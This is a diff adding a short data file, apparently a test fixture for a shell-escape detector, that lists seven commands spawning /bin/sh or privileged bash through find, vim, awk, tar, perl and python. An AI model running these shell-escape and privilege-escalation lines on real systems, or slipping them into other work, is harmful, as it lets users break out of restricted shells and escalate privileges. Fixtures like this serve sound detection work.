@@ -1,0 +1,10 @@
+# SPDX-License-Identifier: Apache-2.0
+# hits: 7
+# fake: /usr/bin/vim.basic=vim
+find /etc/hostname -exec /bin/sh \; < /dev/null
+find /etc/hostname -exec /bin/bash -p \; -quit < /dev/null
+vim -c ':!/bin/sh' /etc/hostname
+awk 'BEGIN {system("/bin/sh")}' < /dev/null
+tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=/bin/sh < /dev/null
+perl -e 'exec "/bin/sh";' < /dev/null
+python3 -c 'import os; os.system("/bin/sh")' < /dev/null
